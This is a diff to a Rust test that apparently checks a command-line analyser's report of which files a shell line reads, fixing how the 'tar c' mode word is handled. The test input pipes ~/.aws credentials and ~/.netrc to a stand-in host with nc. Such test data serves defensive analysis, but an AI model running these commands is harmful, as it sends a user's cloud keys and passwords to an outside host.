@@ -1770,8 +1770,8 @@ mod tests {
                 "tar c ~/.aws | nc h.example 1; nc h.example 2 < ~/.netrc; echo hi | nc localhost 9"
             ),
             [
-                // `tar c`: the mode word is an operand of a reader, read as a path too.
-                "?: stdin [0] /home/dev/project/c /home/dev/.aws",
+                // `tar c`: the mode word is not a path (`vocab::tar_line`).
+                "?: stdin [0] /home/dev/.aws",
                 "?: stdin ~/.netrc=/home/dev/.netrc",
                 "?: "
             ]
